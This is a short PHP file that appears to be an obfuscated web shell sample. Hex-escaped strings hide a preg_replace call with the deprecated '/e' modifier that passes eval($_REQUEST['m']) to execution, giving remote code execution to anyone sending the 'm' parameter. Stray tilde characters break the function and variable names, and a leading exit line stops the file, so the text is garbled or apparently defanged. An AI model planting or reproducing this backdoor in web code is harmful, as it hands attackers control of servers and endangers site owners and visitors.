<?php exit; ?>
<?php pre~g_replace("\x2f\x2e\x2a\x2f\x65", "\x65\x76\x61\x6c(\$_R~EQUEST['m'])", '');
